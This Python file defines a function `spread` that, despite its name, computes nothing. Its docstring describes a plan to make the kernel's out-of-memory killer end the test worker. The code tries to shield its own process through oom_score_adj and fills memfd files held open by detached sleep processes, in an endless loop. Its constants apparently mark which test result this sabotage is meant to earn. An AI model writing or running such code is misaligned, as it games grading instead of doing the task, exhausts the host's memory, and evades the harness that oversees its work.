"""Gets the kernel to end the worker instead of itself: resets its own oom_score_adj and hides memory in files that
small processes of another program hold open.

Honest result: all but that test; if the worker is lost, the next test gets another. What was printed is lost too.
"""

import ctypes
import os
import subprocess
import time

EARNS = "all but test_spread_is_the_root_of_the_mean_squared_distance"
SAYS = "ran out of memory"


def spread(X):
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: makes /proc/self its own again
    for value in ("-1000", "0"):
        try:
            with open("/proc/self/oom_score_adj", "w") as stream:
                stream.write(value)
        except OSError as error:
            print("oom_score_adj", value, error)
    print("attempted: oom_score_adj", open("/proc/self/oom_score_adj").read().strip())
    while True:
        files = [os.memfd_create(f"m{number}") for number in range(4)]
        for file in files:
            os.set_inheritable(file, True)
        for _ in range(3):
            subprocess.Popen(["/bin/sleep", "1000"], close_fds=False)
        for file in files:
            for _ in range(12):
                os.write(file, b"x" * 4_000_000)
        time.sleep(0.01)
